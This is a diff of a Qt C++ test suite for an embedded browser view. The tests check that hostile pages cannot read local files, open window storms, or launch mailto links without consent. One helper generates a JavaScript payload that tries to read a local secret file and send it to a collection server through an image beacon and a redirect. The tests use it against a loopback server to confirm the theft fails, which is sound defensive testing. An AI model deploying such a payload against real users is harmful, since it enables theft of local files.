@@ -42,7 +42,8 @@ bool writeFile(const QString& path, const QByteArray& bytes) {
 }
 
 // A script that tries every way a page has to read a local file, then sends whatever it got to
-// the server at `sink`. `target` is the file's address as the page would write it, `shown` the
+// the server at `sink` twice, as an image and then by leaving for it. `target` is the file's
+// address as the page would write it, `shown` the
 // address it puts in a frame and an image.
 QString stealScript(const QString& target, const QString& shown, const QString& sink) {
     return u(R"(<script>
@@ -67,8 +68,9 @@ setTimeout(function () {
   };
   image.src = "%4";
   setTimeout(function () {
-    new Image().src = "%3?beacon=" + encodeURIComponent(got.join("|"));
-    location.href = "%3?d=" + encodeURIComponent(got.join("|"));
+    var beacon = new Image();
+    beacon.onload = beacon.onerror = function () { location.href = "%3?d=" + encodeURIComponent(got.join("|")); };
+    beacon.src = "%3?beacon=" + encodeURIComponent(got.join("|"));
   }, 500);
 }, 1000);
 </script>)")
@@ -197,8 +199,7 @@ class HostileXvfbTest : public QObject {
                                          stealScript(QUrl::fromLocalFile(dir_.filePath(u("secret.txt"))).toString(),
                                                      u("secret.txt"), server_.url(u("/leak"))))));
         open(page);
-        QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/leak") >= 1, kWaitMs);
-        QTest::qWait(500);
+        QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/leak") >= 2, kWaitMs);
         QVERIFY2(!server_.sawText(kSecret), server_.all().join("\n----\n").constData());
         // The page did run and did report what it could not do.
         QVERIFY(server_.sawText("xhr refused"));
@@ -212,8 +213,7 @@ class HostileXvfbTest : public QObject {
                                                                   utf8Page(u("<p>Удалённая страница.</p>") +
                                                                            stealScript(secret, secret, u("/leak2")))});
         open(server_.url(u("/remote-steal.html")));
-        QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/leak2") >= 1, kWaitMs);
-        QTest::qWait(500);
+        QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/leak2") >= 2, kWaitMs);
         QVERIFY2(!server_.sawText(kSecret), server_.all().join("\n----\n").constData());
         goodPageIsAnalysed();
     }
@@ -229,8 +229,6 @@ class HostileXvfbTest : public QObject {
         QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Письмо")), kWaitMs);
         // The scripted navigation is dropped, with a note.
         QTRY_VERIFY_WITH_TIMEOUT(noted(u("foo:scripted")), kWaitMs);
-        QTest::qWait(1000);
-        QVERIFY(!QFile::exists(launchedMarker()));
 
         // A click asks; "No" launches nothing.
         {
@@ -239,8 +237,6 @@ class HostileXvfbTest : public QObject {
             QTRY_COMPARE_WITH_TIMEOUT(no.texts.size(), 1, kWaitMs);
             QVERIFY(no.texts.first().contains(u("mailto:someone@example.org")));
         }
-        QTest::qWait(1000);
-        QVERIFY(!QFile::exists(launchedMarker()));
 
         // "Yes" hands the address to the desktop.
         {
@@ -248,7 +244,12 @@ class HostileXvfbTest : public QObject {
             clickLink("mail");
             QTRY_COMPARE_WITH_TIMEOUT(yes.texts.size(), 1, kWaitMs);
         }
+        // The desktop got that one address, and nothing before it: not the scripted one, not the
+        // refused click.
         QTRY_VERIFY_WITH_TIMEOUT(QFile::exists(launchedMarker()), kWaitMs);
+        QFile launched(launchedMarker());
+        QVERIFY(launched.open(QIODevice::ReadOnly));
+        QCOMPARE(launched.readAll(), QByteArray("mailto:someone@example.org\n"));
         goodPageIsAnalysed();
     }
 
@@ -270,13 +271,13 @@ class HostileXvfbTest : public QObject {
                           utf8Page(u("<p>Буря окон.</p><a id=\"blank\" target=\"_blank\" href=\"/storm-target.html\" "
                                      "style=\"display:block;width:300px;height:80px\">Ссылка</a>"
                                      "<script>for (var i = 0; i < 200; ++i) window.open('/storm-target.html');"
-                                     "</script>"))});
+                                     "new Image().src = '/storm-done';</script>"))});
         server_.serve("/storm-target.html",
                       LoopbackServer::Reply{"text/html; charset=utf-8", utf8Page(u("<p>Цель бури.</p>"))});
         const int windows = QApplication::topLevelWidgets().size();
         open(server_.url(u("/storm.html")));
-        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Буря")), kWaitMs);
-        QTest::qWait(1000);
+        // The page asks for an image after its window storm: by then any window it opened would have asked.
+        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Буря")) && server_.requests("/storm-done") >= 1, kWaitMs);
         QCOMPARE(server_.requests("/storm-target.html"), 0);
         // A click on a link to a new window opens it in the same view.
         clickLink("blank");
@@ -427,7 +428,6 @@ class HostileXvfbTest : public QObject {
         QTRY_VERIFY_WITH_TIMEOUT(!form_->analysisRunning(), kWaitMs);
         ChildOrDie<QAction>(form_.get(), "miIndexTitle")->trigger();
         QTRY_VERIFY_WITH_TIMEOUT(!form_->analysisRunning(), kWaitMs);
-        QTest::qWait(500);
         QVERIFY(hasWord(u("первый")));
         QVERIFY(!hasWord(u("второй")));
         QCOMPARE(server_.requests("/changing.html"), 1);
@@ -443,7 +443,8 @@ class HostileXvfbTest : public QObject {
             box->lineEdit()->setFocus();
             QTest::keyClick(box->lineEdit(), Qt::Key_Return);
             QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/enter.html") >= round && !form_->analysisRunning(), kWaitMs);
-            QTest::qWait(1000);
+            // A second visit would have been asked for at once, before the next page is.
+            goodPageIsAnalysed();
             QCOMPARE(server_.requests("/enter.html"), round);
         }
     }
